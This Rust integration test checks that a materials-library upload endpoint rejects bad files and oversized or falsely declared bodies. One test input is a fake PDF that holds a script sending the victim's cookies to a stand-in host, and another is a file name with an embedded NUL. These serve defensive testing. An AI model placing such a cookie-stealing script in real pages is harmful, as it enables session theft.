//! Uploads to the materials library checked by content and bounded at once.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "test helpers stop the test at once"
)]

use onestamp_testkit::TestApp;
use onestamp_testkit::reqwest::StatusCode;

/// Holes found by testing: a file that only begins like a PDF, a name with a
/// NUL, two identical uploads at once, bodies larger than the limit (sent, or
/// only declared), which must be answered at once with the JSON error.
#[tokio::test]
async fn uploads_are_checked_by_content_and_bounded_at_once() {
    let t = TestApp::start().await;
    let owner = t.login("zhangsan").await;
    let url = |name: &str| format!("{}/api/v1/materials?name={name}", t.base);
    let send = |name: &str, body: Vec<u8>| {
        t.client
            .post(url(name))
            .bearer_auth(&owner)
            .body(body)
            .send()
    };
    let disguised =
        b"%PDF-1.4\n<html><script>document.location='http://x/'+document.cookie</script></html>\nstartxref\n0\n%%EOF"
            .to_vec();
    let r = send("通知.pdf", disguised).await.unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: serde_json::Value = r.json().await.unwrap();
    assert_eq!(body["error"]["code"], "invalid_input");
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("网页代码")
    );
    let truncated = b"%PDF-1.7\n1 0 obj << >> endobj\n".to_vec();
    assert_eq!(
        send("半截.pdf", truncated).await.unwrap().status(),
        StatusCode::UNPROCESSABLE_ENTITY
    );
    let pdf = b"%PDF-1.7\n1 0 obj << >> endobj\nstartxref\n9\n%%EOF\n".to_vec();
    assert_eq!(
        send("合同%00.pdf", pdf.clone()).await.unwrap().status(),
        StatusCode::UNPROCESSABLE_ENTITY,
        "a NUL in the file name"
    );

    // The same new content, twice at once: both stored, one file, no 500.
    let fresh = b"%PDF-1.7\n% twice at once\nstartxref\n9\n%%EOF\n".to_vec();
    let (a, b) = tokio::join!(send("一.pdf", fresh.clone()), send("二.pdf", fresh.clone()));
    let (a, b) = (a.unwrap(), b.unwrap());
    assert_eq!(a.status(), StatusCode::CREATED);
    assert_eq!(b.status(), StatusCode::CREATED);
    let (a, b): (serde_json::Value, serde_json::Value) =
        (a.json().await.unwrap(), b.json().await.unwrap());
    assert_eq!(a["hash"], b["hash"]);
    assert_eq!(a["name"], b["name"], "one file, kept under its first name");
    let dir = t.dir.path().join("materials");
    let leftovers: Vec<_> = walk(&dir)
        .into_iter()
        .filter(|p| p.contains(".upload-"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");

    // 100 MB sent: a JSON 413, not plain text.
    let started = std::time::Instant::now();
    let r = send("大.pdf", vec![b'x'; 100 * 1024 * 1024]).await;
    if let Ok(r) = r {
        assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
        assert_eq!(r.headers()["content-type"], "application/json");
        let body: serde_json::Value = r.json().await.unwrap();
        assert_eq!(body["error"]["code"], "payload_too_large");
    }
    // A huge declared length with a slow body: answered before the body comes.
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = t.base.trim_start_matches("http://").to_string();
    for path in ["/api/v1/materials?name=a.pdf", "/api/v1/cases"] {
        let mut conn = tokio::net::TcpStream::connect(&addr).await.unwrap();
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {owner}\r\nContent-Type: application/json\r\nContent-Length: 99999999999\r\n\r\n{{"
        );
        conn.write_all(head.as_bytes()).await.unwrap();
        let mut answer = vec![0u8; 4096];
        let n = tokio::time::timeout(std::time::Duration::from_secs(2), conn.read(&mut answer))
            .await
            .expect("answered at once")
            .unwrap();
        let answer = String::from_utf8_lossy(&answer[..n]);
        assert!(answer.starts_with("HTTP/1.1 413"), "{path}: {answer}");
        assert!(answer.contains("payload_too_large"), "{path}: {answer}");
    }
    assert!(started.elapsed() < std::time::Duration::from_secs(30));
}

fn walk(dir: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = entry.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p.display().to_string());
        }
    }
    out
}
